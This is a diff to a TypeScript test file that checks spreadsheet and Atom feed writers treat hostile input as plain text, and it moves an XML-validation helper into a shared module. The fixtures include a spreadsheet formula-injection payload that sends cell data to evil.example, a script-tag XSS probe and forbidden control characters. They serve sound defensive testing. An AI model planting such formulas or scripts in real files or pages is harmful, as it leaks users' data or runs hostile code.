@@ -1,13 +1,13 @@
 // The spreadsheet, Data Package and feed writers: byte-reproducible whatever the clock says, and plain text with hostile input.
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
-import { SaxesParser } from 'saxes';
 import { afterEach, describe, expect, test, vi } from 'vitest';
 import { dataPackage } from '../../src/lib/datapackage.ts';
 import { assessmentsOf, tables, type BoroughLike, type DatasetInput, type StrandLike } from '../../src/lib/downloads.ts';
 import { atomFeed, atomDate } from '../../src/lib/feed.ts';
 import { sheetPlan, workbookBuffer, type XlsxContent } from '../../src/lib/xlsx.ts';
 import { profileErrors } from '../support/table-schema.ts';
+import { xlsxXmlErrors, xmlTexts } from '../support/xml.ts';
 
 const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")';
 const CONTROL = 'Bell\u0007 vertical\u000B tab\u0009 nul\u0000 U+FFFF\uFFFF lone\uD83D end';
@@ -27,18 +27,6 @@ const content: XlsxContent = {
   homepage: 'https://example.org/data/', notice: 'Sample boroughs.', sources: [{ title: 'Grid', publisher: 'IOE', date: '2013-03' }],
   errata: [{ where: 'Activity', printed: '102', correction: '93', note: `Repeated ${FORMULA}` }], tables: tables(input),
 };
-
-/** Every XML part of an XLSX, checked by a strict parser that rejects characters XML forbids. */
-async function xmlErrors(bytes: Buffer): Promise<string[]> {
-  const zip = await JSZip.loadAsync(bytes);
-  const errors: string[] = [];
-  for (const name of Object.keys(zip.files).filter((n) => /\.(xml|rels)$/.test(n))) {
-    const parser = new SaxesParser();
-    parser.on('error', (e) => errors.push(`${name}: ${e.message}`));
-    parser.write(await zip.file(name)!.async('string')).close();
-  }
-  return errors;
-}
 
 afterEach(() => vi.useRealTimers());
 
@@ -60,7 +48,7 @@ describe('the spreadsheet', () => {
 
   test('keeps a formula as text and drops characters XML forbids, and every part stays valid XML', async () => {
     const bytes = await workbookBuffer(content);
-    expect(await xmlErrors(bytes)).toEqual([]);
+    expect(await xlsxXmlErrors(bytes)).toEqual([]);
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load(bytes as unknown as ArrayBuffer);
     const ratings = wb.getWorksheet('Ratings')!;
@@ -106,12 +94,8 @@ describe('the feed', () => {
   const meta = { title: `Atlas <b>&</b> ${CONTROL}`, subtitle: 's', home: 'https://example.org/', self: 'https://example.org/feed.xml', author: 'P', rights: 'OGL' };
   test('is well-formed with hostile titles, which read back as the plain text', () => {
     const feed = atomFeed(meta, [{ url: 'https://example.org/a?x=1&y="2"', title: `<script>alert(1)</script> ${FORMULA} ${CONTROL}`, date: '2013', summary: CONTROL, category: 'C' }]);
-    const texts: string[] = [];
-    const parser = new SaxesParser({ xmlns: true });
-    parser.on('text', (t) => texts.push(t));
-    parser.write(feed).close();
-    expect(texts).toContain(`<script>alert(1)</script> ${FORMULA} ${CLEAN}`);
-    expect(texts).toContain(`Atlas <b>&</b> ${CLEAN}`);
+    expect(xmlTexts(feed, 'title')).toEqual([`Atlas <b>&</b> ${CLEAN}`, `<script>alert(1)</script> ${FORMULA} ${CLEAN}`]);
+    expect(xmlTexts(feed, 'summary')).toEqual([CLEAN]);
   });
 
   test('is dated from the entries, newest first, never from the clock', () => {
